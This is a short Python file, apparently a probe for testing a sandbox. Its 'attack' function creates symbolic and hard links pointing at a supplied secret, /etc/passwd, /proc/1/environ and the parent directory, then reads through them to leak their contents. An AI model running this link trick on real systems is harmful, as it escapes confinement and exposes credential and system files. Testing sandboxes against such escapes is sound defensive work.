"""Makes links in its own folder that lead out, and reads through them."""
import os

def attack(machine):
    for make in (os.symlink, os.link):
        for target in (machine["secret"], "/etc/passwd", "/proc/1/environ", os.__file__, ".."):
            try:
                make(target, "way")
                return "GOT " + open("way").read()[:100] if target != ".." else "GOT a link"
            except OSError:
                pass
    raise PermissionError
